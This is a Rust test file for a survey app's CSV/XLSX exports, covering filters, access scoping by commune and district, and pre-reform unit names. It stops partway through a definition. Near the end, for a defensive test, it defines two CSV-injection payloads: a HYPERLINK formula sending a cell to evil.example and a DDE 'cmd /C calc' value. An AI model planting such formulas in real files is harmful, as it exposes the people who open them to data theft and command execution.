//! Exports of responses and score reports as CSV and XLSX: the rows match what is stored, the
//! filters select what they say, and nobody downloads another commune's or district's data.

use std::collections::BTreeMap;

use app::domain::flags::Flag;
use app::store::responses::NewResponse;
use app::store::Backend;
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use calamine::{Data, Reader};
use hailong_tests::{both_backends, qr_response, Session, TestApp, TestResponse};
use survey_definitions::{Answer, AnswerValue};

both_backends!(
    the_csv_has_a_bom_and_one_row_per_response_the_filters_select,
    the_xlsx_holds_the_same_rows_as_the_csv_with_numbers_as_numbers,
    a_commune_user_exports_only_its_own_commune,
    a_district_reviewer_exports_only_its_district,
    strangers_are_sent_to_sign_in_and_bad_filters_get_a_reason,
    the_score_export_has_one_row_per_commune_of_the_latest_run,
    a_large_export_streams_every_response_once,
    every_export_is_complete_with_gzip_brotli_or_no_compression,
    a_spreadsheet_shows_formula_like_text_as_text,
    an_answer_before_the_reform_names_its_unit_then_and_today,
);

const TAN_PHU: &str = "25195"; // district 689 (Đồng Xoài)
const TAN_BINH: &str = "25210"; // Phường Đồng Xoài, reviewed by district 689
const THAC_MO: &str = "25217"; // district 688 (Phước Long)
const SET: &str = "dong-nai-2026";
/// A comment that needs CSV quoting and XML escaping, with a control character XML forbids.
const TRICKY: &str = "Tốt, \"rất\" nhanh & <gọn>\u{7}";

/// Milliseconds of `day` (YYYY-MM-DD) at `hh:mm` in Vietnam (UTC+7).
fn vn(day: &str, hh: i64, mm: i64) -> i64 {
    let parts: Vec<i64> = day.split('-').map(|p| p.parse().unwrap()).collect();
    let (y, m, d) = (parts[0], parts[1], parts[2]);
    // Days since 1970-01-01 of a proleptic Gregorian date (H. Hinnant's days_from_civil).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * (m + if m > 2 { -3 } else { 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    (days * 86_400 + hh * 3600 + mm * 60) * 1000 - 7 * 3_600_000
}

/// One seeded response: commune, time, overall rating, channel, comment.
struct Seed {
    commune: &'static str,
    at: i64,
    overall: u8,
    channel: &'static str,
    comment: Option<&'static str>,
}

fn seeds() -> Vec<Seed> {
    let s = |commune, at, overall, channel, comment| Seed {
        commune,
        at,
        overall,
        channel,
        comment,
    };
    vec![
        s(TAN_PHU, vn("2026-03-10", 8, 0), 5, "qr", Some(TRICKY)),
        s(TAN_PHU, vn("2026-03-10", 9, 30), 5, "qr", None),
        s(TAN_PHU, vn("2026-03-10", 10, 0), 4, "qr", None),
        s(TAN_PHU, vn("2026-03-20", 14, 0), 5, "kiosk", None),
        s(
            TAN_PHU,
            vn("2026-03-20", 15, 0),
            2,
            "kiosk",
            Some("Chờ lâu"),
        ),
        s(TAN_BINH, vn("2026-03-12", 0, 0), 5, "qr", None),
        // The last minute of the 12th and the first of the 13th, Vietnam time.
        s(TAN_BINH, vn("2026-03-12", 23, 59), 3, "qr", None),
        s(TAN_BINH, vn("2026-03-13", 0, 0), 5, "qr", None),
        s(THAC_MO, vn("2026-03-11", 7, 0), 5, "qr", None),
        s(THAC_MO, vn("2026-03-11", 7, 5), 5, "qr", None),
        s(THAC_MO, vn("2026-03-11", 7, 10), 5, "demo", None),
        s(THAC_MO, vn("2026-03-11", 7, 15), 3, "qr", None),
        s(THAC_MO, vn("2026-04-02", 16, 0), 4, "qr", None),
    ]
}

async fn desk_id(app: &TestApp, commune: &str) -> i64 {
    app.desk_of(commune).await.id
}

fn answers(overall: u8, comment: Option<&str>) -> Vec<Answer> {
    let mut answers = vec![
        Answer {
            question_id: "overall".into(),
            value: AnswerValue::Scale(overall),
        },
        Answer {
            question_id: "access".into(),
            value: AnswerValue::Scale(4),
        },
        Answer {
            question_id: "visits".into(),
            value: AnswerValue::Choice("1".into()),
        },
    ];
    if let Some(comment) = comment {
        answers.push(Answer {
            question_id: "comment".into(),
            value: AnswerValue::Text(comment.into()),
        });
    }
    answers
}

/// Stores the seeds, plus one response at Tân Phú that a reviewer excluded (needs `staff`).
async fn seed(app: &TestApp) {
    let mut desks = BTreeMap::new();
    for commune in [TAN_PHU, TAN_BINH, THAC_MO] {
        desks.insert(commune, desk_id(app, commune).await);
    }
    let seeds = seeds();
    let answer_sets: Vec<Vec<Answer>> = seeds
        .iter()
        .map(|s| answers(s.overall, s.comment))
        .chain(std::iter::once(answers(1, None)))
        .collect();
    let keys: Vec<String> = (0..answer_sets.len())
        .map(|i| format!("export-test-{i}"))
        .collect();
    let mut batch: Vec<NewResponse> = seeds
        .iter()
        .enumerate()
        .map(|(i, s)| NewResponse {
            channel: app::domain::channel::Channel::parse(s.channel).expect("a known channel"),
            ..qr_response(desks[s.commune], &keys[i], s.at, &answer_sets[i])
        })
        .collect();
    let excluded = seeds.len();
    batch.push(NewResponse {
        flags: [Flag::DeviceBurst, Flag::OutsideHours]
            .into_iter()
            .collect(),
        ..qr_response(
            desks[TAN_PHU],
            &keys[excluded],
            vn("2026-03-15", 9, 0),
            &answer_sets[excluded],
        )
    });
    let inserted = app.store().insert_responses(&batch).await.unwrap();
    let Some(app::store::responses::Inserted::New(flagged)) = inserted.last().copied() else {
        panic!("stored: {inserted:?}");
    };
    // Excluded as a reviewer does it, so every count (the day's aggregates too) follows.
    let admin = app.login("admin").await;
    let excluded = app
        .post_as(
            &format!("/review/responses/{flagged}"),
            &[
                ("_csrf", &admin.csrf),
                ("decision", "exclude"),
                ("confirm", "yes"),
            ],
            Some(&admin.cookie),
        )
        .await;
    assert_eq!(
        excluded.status,
        StatusCode::SEE_OTHER,
        "{}",
        excluded.text()
    );
}

async fn staff(app: &TestApp) {
    app.add_user("admin", "province_admin", "").await;
    app.add_user("reviewer689", "district_reviewer", "689")
        .await;
    app.add_user("leader25195", "commune_leader", TAN_PHU).await;
}

/// A CSV file read as RFC 4180 says: quoted fields may hold separators, quotes and line ends.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "every record ends with CRLF"
    );
    rows
}

/// A CSV export: its header and rows as maps from column to value.
struct Csv {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Csv {
    fn read(response: &TestResponse) -> Csv {
        assert_eq!(response.status, StatusCode::OK, "{}", response.text());
        assert_eq!(
            response.headers[header::CONTENT_TYPE],
            "text/csv; charset=utf-8"
        );
        assert!(
            response.body.starts_with("\u{feff}".as_bytes()),
            "UTF-8 with a BOM for Excel"
        );
        let text = String::from_utf8(response.body[3..].to_vec()).expect("UTF-8");
        let mut rows = parse_csv(&text);
        let header = rows.remove(0);
        assert!(rows.iter().all(|r| r.len() == header.len()), "{rows:?}");
        Csv { header, rows }
    }

    fn col(&self, name: &str) -> usize {
        self.header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {:?}", self.header))
    }

    fn values(&self, name: &str) -> Vec<&str> {
        let i = self.col(name);
        self.rows.iter().map(|r| r[i].as_str()).collect()
    }

    /// Rows per commune code.
    fn per_commune(&self) -> BTreeMap<String, usize> {
        let mut counts = BTreeMap::new();
        for code in self.values("commune_code") {
            *counts.entry(code.to_string()).or_default() += 1;
        }
        counts
    }
}

fn counts(pairs: &[(&str, usize)]) -> BTreeMap<String, usize> {
    pairs.iter().map(|(k, v)| (k.to_string(), *v)).collect()
}

async fn csv_as(app: &TestApp, session: &Session, path: &str) -> Csv {
    Csv::read(&app.get_as(path, Some(&session.cookie)).await)
}

async fn the_csv_has_a_bom_and_one_row_per_response_the_filters_select(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    let admin = app.login("admin").await;

    let response = app
        .get_as("/exports/responses.csv", Some(&admin.cookie))
        .await;

    let all = Csv::read(&response);
    let disposition = response.headers[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\"hailong-responses-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert_eq!(
        all.per_commune(),
        counts(&[(TAN_PHU, 5), (TAN_BINH, 3), (THAC_MO, 5)]),
        "every stored response once, the excluded one left out"
    );
    // The figures are the stored ones: satisfied-overall answers per commune, counted in SQL.
    let stored: Vec<(String, i64)> = sqlx::query_as(
        "select c.code, count(*) from responses r join desks d on d.id = r.desk_id \
         join admin_units c on c.id = d.commune_id \
         join answers a on a.response_id = r.id and a.question_id = 'overall' \
         where a.value_int = 5 and r.excluded = 0 group by c.code order by c.code",
    )
    .fetch_all(app.store().pool())
    .await
    .unwrap();
    let (overall, code) = (all.col("overall"), all.col("commune_code"));
    let mut exported: BTreeMap<String, i64> = BTreeMap::new();
    for row in all.rows.iter().filter(|r| r[overall] == "5") {
        *exported.entry(row[code].clone()).or_default() += 1;
    }
    assert_eq!(exported, stored.into_iter().collect());
    let tricky = all
        .rows
        .iter()
        .find(|r| r[all.col("comment")] == TRICKY)
        .expect("the comment comes back unchanged through the CSV quoting");
    assert_eq!(tricky[all.col("submitted_at_vn")], "10/03/2026 08:00");
    assert_eq!(tricky[all.col("submitted_at_utc")], "2026-03-10T01:00:00Z");
    // Since 1/7/2025 communes have no district: answers of 2026 alone have no district column.
    for column in ["district", "district_code"] {
        assert!(!all.header.iter().any(|h| h == column), "{:?}", all.header);
    }
    assert_eq!(tricky[all.col("province_code")], "75");
    assert_eq!(tricky[all.col("commune_code")], TAN_PHU);
    assert_eq!(tricky[all.col("commune_at_time")], "Phường Bình Phước");
    assert_eq!(tricky[all.col("commune_valid_from")], "2025-07-01");
    assert_eq!(tricky[all.col("commune_valid_to")], "", "in force");
    assert_eq!(tricky[all.col("commune_today_code")], TAN_PHU);
    assert_eq!(tricky[all.col("commune_today")], "Phường Bình Phước");
    assert_eq!(tricky[all.col("channel")], "qr");
    assert_eq!(tricky[all.col("visits")], "1");
    assert_eq!(tricky[all.col("feedback")], "", "unanswered stays empty");
    let ids: Vec<i64> = all
        .values("response_id")
        .iter()
        .map(|v| v.parse().unwrap())
        .collect();
    assert!(ids.windows(2).all(|w| w[0] < w[1]), "ordered, no repeats");

    let cases: [(&str, BTreeMap<String, usize>); 7] = [
        (
            "excluded=1",
            counts(&[(TAN_PHU, 6), (TAN_BINH, 3), (THAC_MO, 5)]),
        ),
        ("commune=25195", counts(&[(TAN_PHU, 5)])),
        ("district=688", counts(&[(THAC_MO, 5)])),
        (
            "from=2026-03-11&to=2026-03-12",
            counts(&[(TAN_BINH, 2), (THAC_MO, 4)]),
        ),
        ("from=2026-03-13&to=2026-03-13", counts(&[(TAN_BINH, 1)])),
        ("channel=kiosk&district=689", counts(&[(TAN_PHU, 2)])),
        (
            "from=2026-03-01&to=2026-03-31&district=689&commune=&channel=",
            counts(&[(TAN_PHU, 5), (TAN_BINH, 3)]),
        ),
    ];
    for (query, expected) in cases {
        let csv = csv_as(&app, &admin, &format!("/exports/responses.csv?{query}")).await;
        assert_eq!(csv.per_commune(), expected, "{query}");
    }
    let flagged = csv_as(&app, &admin, "/exports/responses.csv?excluded=1").await;
    let row = flagged
        .rows
        .iter()
        .find(|r| r[flagged.col("excluded")] == "1")
        .expect("the excluded response, marked");
    assert_eq!(row[flagged.col("flags")], "device_burst outside_hours");
}

/// A cell as text, as CSV writes it.
fn cell_text(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::String(s) => s.clone(),
        Data::Float(f) if f.fract() == 0.0 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Int(n) => n.to_string(),
        other => panic!("unexpected cell {other:?}"),
    }
}

/// The rows of the sheet `sheet` of an XLSX response, after checking it is a zip.
fn read_xlsx(response: &TestResponse, sheet: &str) -> calamine::Range<Data> {
    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
    assert_eq!(
        response.headers[header::CONTENT_TYPE],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    assert_eq!(
        response.headers[header::CONTENT_LENGTH]
            .to_str()
            .unwrap()
            .parse::<usize>()
            .unwrap(),
        response.body.len()
    );
    assert!(response.body.starts_with(b"PK\x03\x04"), "a zip file");
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(response.body.clone()))
            .expect("a workbook calamine opens");
    assert_eq!(book.sheet_names(), [sheet.to_string()]);
    book.worksheet_range(sheet).expect("the sheet reads")
}

async fn the_xlsx_holds_the_same_rows_as_the_csv_with_numbers_as_numbers(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    let admin = app.login("admin").await;

    let csv = csv_as(&app, &admin, "/exports/responses.csv?excluded=1").await;
    let response = app
        .get_as("/exports/responses.xlsx?excluded=1", Some(&admin.cookie))
        .await;

    let sheet = read_xlsx(&response, "Phiếu khảo sát");
    let disposition = response.headers[header::CONTENT_DISPOSITION]
        .to_str()
        .unwrap();
    assert!(disposition.ends_with(".xlsx\""), "{disposition}");
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(cell_text).collect())
        .collect();
    assert_eq!(rows[0], csv.header);
    assert_eq!(rows.len() - 1, csv.rows.len());
    for (xlsx, csv) in rows[1..].iter().zip(&csv.rows) {
        // Only what XML cannot hold differs: the control character is dropped.
        let expected: Vec<String> = csv.iter().map(|v| v.replace('\u{7}', "")).collect();
        assert_eq!(xlsx, &expected);
    }
    let overall = csv.col("overall");
    assert!(
        sheet
            .rows()
            .skip(1)
            .all(|r| matches!(r[overall], Data::Float(_) | Data::Int(_))),
        "ratings are numbers"
    );
    assert!(rows
        .iter()
        .any(|r| r[csv.col("comment")] == "Tốt, \"rất\" nhanh & <gọn>"));
}

async fn a_commune_user_exports_only_its_own_commune(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    let leader = app.login("leader25195").await;

    let own = csv_as(&app, &leader, "/exports/responses.csv").await;

    assert_eq!(own.per_commune(), counts(&[(TAN_PHU, 5)]));
    for path in [
        "/exports/responses.csv?commune=25217",
        "/exports/responses.xlsx?commune=25210",
        "/exports/responses.csv?district=688",
        "/exports/scores.csv?commune=25217",
    ] {
        let refused = app.get_as(path, Some(&leader.cookie)).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{path}");
        assert!(refused.text().contains("xã mình"), "{path}");
    }
    let own_district = csv_as(&app, &leader, "/exports/responses.csv?district=689").await;
    assert_eq!(
        own_district.per_commune(),
        counts(&[(TAN_PHU, 5)]),
        "a filter narrows the scope, never widens it"
    );
    let xlsx = app
        .get_as(
            "/exports/responses.xlsx?commune=25195",
            Some(&leader.cookie),
        )
        .await;
    assert_eq!(read_xlsx(&xlsx, "Phiếu khảo sát").rows().count(), 1 + 5);
    let page = app.get_as("/commune", Some(&leader.cookie)).await.text();
    for link in [
        "/exports/responses.csv?commune=25195&amp;days=30",
        "/exports/responses.xlsx?commune=25195\"",
    ] {
        assert!(page.contains(link), "the commune page links {link}");
    }
    let recent = csv_as(
        &app,
        &leader,
        "/exports/responses.csv?commune=25195&days=30",
    )
    .await;
    assert!(recent.rows.len() <= 5);
}

async fn a_district_reviewer_exports_only_its_district(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    let reviewer = app.login("reviewer689").await;

    let district = csv_as(&app, &reviewer, "/exports/responses.csv").await;

    assert_eq!(
        district.per_commune(),
        counts(&[(TAN_PHU, 5), (TAN_BINH, 3)])
    );
    let one = csv_as(&app, &reviewer, "/exports/responses.csv?commune=25210").await;
    assert_eq!(one.per_commune(), counts(&[(TAN_BINH, 3)]));
    for path in [
        "/exports/responses.csv?commune=25217",
        "/exports/responses.csv?district=688",
        "/exports/responses.xlsx?district=688",
        "/exports/scores.xlsx?district=688",
    ] {
        let refused = app.get_as(path, Some(&reviewer.cookie)).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{path}");
        assert!(refused.text().contains("huyện mình"), "{path}");
    }
}

async fn strangers_are_sent_to_sign_in_and_bad_filters_get_a_reason(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    let admin = app.login("admin").await;

    for path in [
        "/exports/responses.csv",
        "/exports/responses.xlsx",
        "/exports/scores.csv",
        "/exports/scores.xlsx",
        "/exports/responses.csv?from=not-a-date",
    ] {
        let anonymous = app.get(path).await;
        assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    let cases = [
        ("/exports/responses.csv?from=25/11/2026", "from"),
        ("/exports/responses.xlsx?to=2026-02-30", "to"),
        (
            "/exports/responses.csv?from=2026-11-25&to=2026-11-01",
            "sau ngày kết thúc",
        ),
        ("/exports/responses.csv?days=abc", "days"),
        ("/exports/responses.csv?days=7&from=2026-11-01", "days"),
        ("/exports/responses.csv?excluded=maybe", "excluded"),
        ("/exports/responses.csv?commune=99999", "99999"),
        ("/exports/responses.csv?district=%3Cb%3E", "không hợp lệ"),
        ("/exports/responses.csv?channel=QR%20code", "channel"),
        ("/exports/scores.csv?criteria=khong-co", "khong-co"),
        ("/exports/responses.csv?from=%FF", "không hợp lệ"),
    ];
    for (path, says) in cases {
        let refused = app.get_as(path, Some(&admin.cookie)).await;
        assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{path}");
        assert!(refused.text().contains(says), "{path}: {}", refused.text());
    }
    let no_run = app
        .get_as(
            &format!("/exports/scores.csv?criteria={SET}"),
            Some(&admin.cookie),
        )
        .await;
    assert_eq!(no_run.status, StatusCode::NOT_FOUND);
    assert!(no_run.text().contains("Chưa có lần chấm điểm"));
    let empty = csv_as(&app, &admin, "/exports/responses.csv?from=2030-01-01").await;
    assert!(empty.rows.is_empty(), "nothing selected: the header alone");
}

async fn the_score_export_has_one_row_per_commune_of_the_latest_run(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    seed(&app).await;
    let set = app
        .state
        .criteria
        .iter()
        .find(|s| s.id == SET)
        .expect("the set is in force");
    app::scores::runs::run_all(app.store(), set, &app.state.definitions, "test")
        .await
        .unwrap();
    let run = app::scores::runs::run_all(app.store(), set, &app.state.definitions, "test")
        .await
        .unwrap();
    let results = app.store().score_results(run.run_id, None).await.unwrap();
    let admin = app.login("admin").await;

    let csv = csv_as(&app, &admin, &format!("/exports/scores.csv?criteria={SET}")).await;

    assert_eq!(csv.rows.len(), results.len(), "one row per commune");
    assert_eq!(csv.rows.len(), run.communes);
    for r in &results {
        let row = csv
            .rows
            .iter()
            .find(|row| row[csv.col("commune_code")] == r.unit_code)
            .unwrap_or_else(|| panic!("{} exported", r.unit_code));
        let total = scoring::Points::from_hundredths(r.total as u64).unwrap();
        assert_eq!(row[csv.col("total")], total.to_string(), "{}", r.unit_code);
        assert_eq!(row[csv.col("output_hash")], r.output_hash);
        assert_eq!(row[csv.col("input_hash")], r.input_hash);
        assert_eq!(
            row[csv.col("run_id")],
            run.run_id.to_string(),
            "the latest run"
        );
        assert_eq!(
            row[csv.col("passed")],
            if r.passed == 1 { "có" } else { "không" }
        );
        let report: scoring::Report = serde_json::from_str(&r.report_json).unwrap();
        if !report.citizen_sample_sufficient() {
            assert_eq!(row[csv.col("rank")], "chưa xếp hạng: chưa đủ mẫu");
        }
    }
    let tan_phu = &csv.rows[csv
        .values("commune_code")
        .iter()
        .position(|c| *c == TAN_PHU)
        .unwrap()];
    assert_eq!(
        tan_phu[csv.col("sample")],
        "5",
        "the commune's 5 counted answers"
    );
    assert_eq!(
        tan_phu[csv.col("satisfied_percent")],
        "80",
        "4 of 5 rated 4 or 5"
    );

    let ranking = app
        .get_as(&format!("/ranking?criteria={SET}"), Some(&admin.cookie))
        .await
        .text();
    assert!(
        ranking.contains(&format!("/exports/scores.xlsx?criteria={SET}")),
        "the ranking page links the download"
    );
    let xlsx = app
        .get_as(
            &format!("/exports/scores.xlsx?criteria={SET}"),
            Some(&admin.cookie),
        )
        .await;
    let sheet = read_xlsx(&xlsx, "Kết quả chấm điểm");
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(cell_text).collect())
        .collect();
    assert_eq!(rows[0], csv.header);
    assert_eq!(&rows[1..], &csv.rows[..]);

    let reviewer = app.login("reviewer689").await;
    let district = csv_as(&app, &reviewer, "/exports/scores.csv").await;
    let in_689 = results
        .iter()
        .filter(|r| r.district_name.as_deref() == Some("Thành phố Đồng Xoài"))
        .count();
    assert_eq!(district.rows.len(), in_689);
    assert!(district
        .values("district")
        .iter()
        .all(|d| *d == "Thành phố Đồng Xoài"));
    let leader = app.login("leader25195").await;
    let own = csv_as(
        &app,
        &leader,
        &format!("/exports/scores.csv?criteria={SET}"),
    )
    .await;
    assert_eq!(own.values("commune_code"), [TAN_PHU]);
    let row = &csv.rows[csv
        .values("commune_code")
        .iter()
        .position(|c| *c == TAN_PHU)
        .unwrap()];
    assert_eq!(row[csv.col("province_code")], "75");
    assert_eq!(row[csv.col("commune")], "Phường Bình Phước");
    assert_eq!(row[csv.col("commune_valid_from")], "2025-07-01");
    assert_eq!(row[csv.col("commune_valid_to")], "", "in force");

    // A province with no district history: no district columns rather than empty ones.
    sqlx::query("update admin_units set review_district_id = null")
        .execute(app.store().pool())
        .await
        .unwrap();
    let flat = csv_as(&app, &admin, &format!("/exports/scores.csv?criteria={SET}")).await;
    for column in ["district", "rank_in_district"] {
        assert!(
            !flat.header.iter().any(|h| h == column),
            "{:?}",
            flat.header
        );
    }
    assert_eq!(flat.rows.len(), csv.rows.len());
    assert_eq!(flat.values("total"), csv.values("total"));
    let xlsx = app
        .get_as(
            &format!("/exports/scores.xlsx?criteria={SET}"),
            Some(&admin.cookie),
        )
        .await;
    let sheet = read_xlsx(&xlsx, "Kết quả chấm điểm");
    let header: Vec<String> = sheet.rows().next().unwrap().iter().map(cell_text).collect();
    assert_eq!(header, flat.header);
}

/// Phường Tân Phú's desk before the reform, made as the demo makes the pre-reform desks.
async fn tan_phu_desk_before_the_reform(app: &TestApp) -> i64 {
    hailong_tests::pre_reform_desk(app.store(), "Phường Tân Phú")
        .await
        .id
}

async fn an_answer_before_the_reform_names_its_unit_then_and_today(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    let before = tan_phu_desk_before_the_reform(&app).await;
    let today = desk_id(&app, TAN_PHU).await;
    let (march, august) = (answers(5, None), answers(4, None));
    app.store()
        .insert_responses(&[
            qr_response(before, "export-march-2025", vn("2025-03-10", 9, 0), &march),
            qr_response(today, "export-august-2025", vn("2025-08-10", 9, 0), &august),
        ])
        .await
        .unwrap();
    let admin = app.login("admin").await;

    let response = app
        .get_as("/exports/responses.csv", Some(&admin.cookie))
        .await;

    let csv = Csv::read(&response);
    assert_eq!(csv.rows.len(), 2);
    let on = |day: &str| {
        csv.rows
            .iter()
            .find(|r| r[csv.col("submitted_at_vn")].starts_with(day))
            .unwrap_or_else(|| panic!("the answer of {day}"))
    };
    // 25195 named Phường Tân Phú of district 689 in Bình Phước (70) until 30/6/2025; its answers
    // count for Phường Bình Phước, which took the code.
    let expected = [
        (
            "10/03/2025",
            [
                ("province_code", "70"),
                ("commune_code", TAN_PHU),
                ("commune_at_time", "Phường Tân Phú"),
                ("commune_valid_from", "2024-01-01"),
                ("commune_valid_to", "2025-07-01"),
                ("commune_today_code", TAN_PHU),
                ("commune_today", "Phường Bình Phước"),
                ("district", "Thành phố Đồng Xoài"),
                ("district_code", "689"),
            ],
        ),
        (
            "10/08/2025",
            [
                ("province_code", "75"),
                ("commune_code", TAN_PHU),
                ("commune_at_time", "Phường Bình Phước"),
                ("commune_valid_from", "2025-07-01"),
                ("commune_valid_to", ""),
                ("commune_today_code", TAN_PHU),
                ("commune_today", "Phường Bình Phước"),
                ("district", ""),
                ("district_code", ""),
            ],
        ),
    ];
    for (day, columns) in expected {
        let row = on(day);
        for (column, value) in columns {
            assert_eq!(row[csv.col(column)], value, "{day}: {column}");
        }
    }
    let xlsx = app
        .get_as("/exports/responses.xlsx", Some(&admin.cookie))
        .await;
    let rows: Vec<Vec<String>> = read_xlsx(&xlsx, "Phiếu khảo sát")
        .rows()
        .map(|r| r.iter().map(cell_text).collect())
        .collect();
    assert_eq!(rows[0], csv.header);
    assert_eq!(&rows[1..], &csv.rows[..]);
    // The command line writes the same file.
    let mut out = Vec::new();
    server::cli::export::write_responses_csv(app.store(), &app.state.definitions, &mut out)
        .await
        .unwrap();
    assert_eq!(out, response.body);

    // After the reform alone: no district column, in either format.
    let after = csv_as(&app, &admin, "/exports/responses.csv?from=2025-07-01").await;
    assert_eq!(after.rows.len(), 1);
    for column in ["district", "district_code"] {
        assert!(
            !after.header.iter().any(|h| h == column),
            "{:?}",
            after.header
        );
    }
    assert_eq!(after.values("commune_today"), ["Phường Bình Phước"]);
    let xlsx = app
        .get_as(
            "/exports/responses.xlsx?from=2025-07-01",
            Some(&admin.cookie),
        )
        .await;
    let header: Vec<String> = read_xlsx(&xlsx, "Phiếu khảo sát")
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(cell_text)
        .collect();
    assert_eq!(header, after.header);
    // A commune's export covers every version with its code, each named as it was then.
    let leader = app.login("leader25195").await;
    let own = csv_as(&app, &leader, "/exports/responses.csv").await;
    let mut names = own.values("commune_at_time");
    names.sort();
    assert_eq!(names, ["Phường Bình Phước", "Phường Tân Phú"]);
    assert!(own.header.iter().any(|h| h == "district"));
}

async fn a_large_export_streams_every_response_once(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    staff(&app).await;
    let desk = desk_id(&app, TAN_PHU).await;
    let other_desk = desk_id(&app, THAC_MO).await;
    let answers = answers(5, Some("Ổn"));
    // Every third response at another commune's desk: a filtered export skips them on every
    // page of the read.
    let keys: Vec<String> = (0..2250).map(|i| format!("bulk-{i}")).collect();
    let batch: Vec<NewResponse> = keys
        .iter()
        .enumerate()
        .map(|(i, key)| {
            let desk = if i % 3 == 2 { other_desk } else { desk };
            qr_response(
                desk,
                key,
                vn("2026-05-01", 8, 0) + i as i64 * 1000,
                &answers,
            )
        })
        .collect();
    app.store().insert_responses(&batch).await.unwrap();
    let admin = app.login("admin").await;

    let csv = csv_as(&app, &admin, "/exports/responses.csv").await;
    let xlsx = app
        .get_as("/exports/responses.xlsx", Some(&admin.cookie))
        .await;

    assert_eq!(csv.rows.len(), 2250);
    let ids: Vec<i64> = csv
        .values("response_id")
        .iter()
        .map(|id| id.parse().unwrap())
        .collect();
    assert!(
        ids.windows(2).all(|w| w[0] < w[1]),
        "each response once, in id order"
    );
    assert!(csv.values("overall").iter().all(|v| *v == "5"));
    assert_eq!(read_xlsx(&xlsx, "Phiếu khảo sát").rows().count(), 2251);

    let tan_phu = csv_as(
        &app,
        &admin,
        &format!("/exports/responses.csv?commune={TAN_PHU}"),
    )
    .await;
    assert_eq!(tan_phu.rows.len(), 1500);
    assert!(tan_phu.values("commune_code").iter().all(|c| *c == TAN_PHU));
    let tan_phu_ids: std::collections::BTreeSet<&str> =
        tan_phu.values("response_id").into_iter().collect();
    assert_eq!(tan_phu_ids.len(), 1500, "each response once");
}

// ---------------------------------------------------------------------------------------------
// Every export whole under every encoding, and safe to open in a spreadsheet

/// A comment as an attacker types it: a spreadsheet that runs it sends the cell beside it to
/// another site when clicked.
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")";
/// A user name tried at the sign-in form, which the audit log records as typed.
const FORMULA_USER: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// Text as the CSV exports write it (OWASP, "CSV Injection"): a cell a spreadsheet would read as
/// a formula starts with an apostrophe.
fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// `(year, month, day, hour, minute, second)` of `ms` shifted by `offset_hours` (H. Hinnant's
/// civil_from_days).
fn civil(ms: i64, offset_hours: i64) -> (i64, i64, i64, i64, i64, i64) {
    let secs = ms.div_euclid(1000) + offset_hours * 3600;
    let (days, rest) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    (y, m, d, rest / 3600, rest % 3600 / 60, rest % 60)
}

fn utc_text(ms: i64) -> String {
    let (y, m, d, hh, mm, ss) = civil(ms, 0);
    format!("{y:04}-{m:02}-{d:02}T{hh:02}:{mm:02}:{ss:02}Z")
}

fn vn_text(ms: i64) -> String {
    let (y, m, d, hh, mm, _) = civil(ms, 7);
    format!("{d:02}/{m:02}/{y:04} {hh:02}:{mm:02}")
}

/// A stored value as an export must show it.
#[derive(Clone, Debug)]
enum Value {
    Text(String),
    Int(i64),
    /// Hundredths of a point.
    Points(i64),
    Empty,
}

impl Value {
    fn text(text: impl Into<String>) -> Value {
